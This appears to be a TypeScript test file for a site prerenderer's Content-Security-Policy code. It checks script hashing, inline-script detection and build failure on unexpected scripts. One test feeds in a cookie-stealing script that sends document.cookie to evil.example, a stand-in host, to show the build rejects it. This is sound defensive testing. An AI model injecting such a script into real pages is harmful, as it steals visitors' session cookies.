import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { contentSecurityPolicyWith, ContentSecurityError, defaultContentSecurityPolicy, inlineScripts, scriptHash, withContentSecurityPolicy } from './csp.js';
import { prerender, PrerenderError } from './prerender.js';

const policyOf = (html: string) => /<meta http-equiv="Content-Security-Policy" content="([^"]*)"\/>/.exec(html)![1]!;

describe('image sources of the policy', () => {
  it('allow the site, data: URLs and only the listed hosts over https', () => {
    expect(defaultContentSecurityPolicy([])).toContain("img-src 'self' data:;");
    expect(contentSecurityPolicyWith({ imageHosts: ['avatars.githubusercontent.com'] })([])).toContain("img-src 'self' data: https://avatars.githubusercontent.com;");
  });
});

describe('frame sources of the policy', () => {
  it('lists no frame-src without hosts, so default-src keeps frames to the site', () => {
    expect(defaultContentSecurityPolicy([])).not.toContain('frame-src');
  });
  it('allows exactly the given hosts over https in frame-src', () => {
    const policy = contentSecurityPolicyWith({ frameHosts: ['www.youtube-nocookie.com', 'player.vimeo.com'] })([]);
    expect(policy).toContain("frame-src 'self' https://www.youtube-nocookie.com https://player.vimeo.com;");
    expect(policy).not.toContain('http://');
  });
});

describe('withContentSecurityPolicy', () => {
  it('allows exactly the inline scripts the renderer wrote by hash, and no JSON data blocks', () => {
    const html = '<!DOCTYPE html><html><head><script>a()</script><script type="module" src="/e.js"></script></head><body><script type="application/json">{}</script><script data-x="1">b()</script></body></html>';
    const out = withContentSecurityPolicy(html, ['a()', 'b()']);
    const policy = policyOf(out);
    expect(out.indexOf('Content-Security-Policy')).toBeLessThan(out.indexOf('<script'));
    expect(policy).toContain(`script-src 'self' ${scriptHash('a()')} ${scriptHash('b()')}`);
    expect(policy).not.toContain(scriptHash('{}'));
    expect(policy).toContain("object-src 'none'");
  });

  it('takes the hashes from what the renderer wrote, not from the page: a page script it did not write is refused', () => {
    const html = '<html><head><script>theme()</script></head><body><p>text</p><script>steal()</script></body></html>';
    expect(() => withContentSecurityPolicy(html, ['theme()'])).toThrow(ContentSecurityError);
    expect(() => withContentSecurityPolicy(html, ['theme()'])).toThrow(/inline script that its renderer did not write: <script>steal\(\)<\/script>\n {2}fix: /);
  });

  it('sees a script in any wrapping: upper case, other attributes, a type attribute hidden inside another', () => {
    for (const wrapped of [
      '<SCRIPT>x()</SCRIPT>',
      '<script type="text/javascript">x()</script>',
      '<script type="module">x()</script>',
      `<script data-note='type="application/json"'>x()</script>`,
      '<svg><script>x()</script></svg>',
      '<script >x()</script >',
    ]) {
      expect(inlineScripts(`<body>${wrapped}</body>`), wrapped).toEqual(['x()']);
      expect(() => withContentSecurityPolicy(`<html><head></head><body>${wrapped}</body></html>`, []), wrapped).toThrow(ContentSecurityError);
    }
    expect(inlineScripts('<script type="application/ld+json">{"a":1}</script><script src="/x.js"></script>')).toEqual([]);
  });
});

describe('prerender with a Content-Security-Policy', () => {
  let outDir: string;
  beforeEach(() => (outDir = fs.mkdtempSync(path.join(os.tmpdir(), 'lumidoc-csp-'))));
  afterEach(() => fs.rmSync(outDir, { recursive: true, force: true }));

  const page = (body: string) => `<!DOCTYPE html><html><head><script>boot()</script></head><body>${body}</body></html>`;
  const run = (body: string) =>
    prerender({
      routes: ['/guide'],
      notFoundRoutes: [],
      outDir,
      render: async () => ({ status: 200, html: page(body), scripts: ['boot()'] }),
      contentSecurityPolicy: (hashes) => `script-src ${hashes.join(' ')}`,
    });

  it('lists only the scripts the render returned', async () => {
    await run('<p>Hello</p>');
    expect(policyOf(fs.readFileSync(path.join(outDir, 'guide', 'index.html'), 'utf8'))).toBe(`script-src ${scriptHash('boot()')}`);
  });

  it('fails the build, naming the route, when a page holds a script the render did not write', async () => {
    await expect(run('<p>Hello</p><script>fetch("//evil.example/"+document.cookie)</script>')).rejects.toThrow(PrerenderError);
    await expect(run('<p>Hello</p><script>fetch("//evil.example/"+document.cookie)</script>')).rejects.toThrow(/^Rendering \/guide: the page has an inline script that its renderer did not write: <script>fetch/);
    expect(fs.existsSync(path.join(outDir, 'guide', 'index.html'))).toBe(false);
  });
});
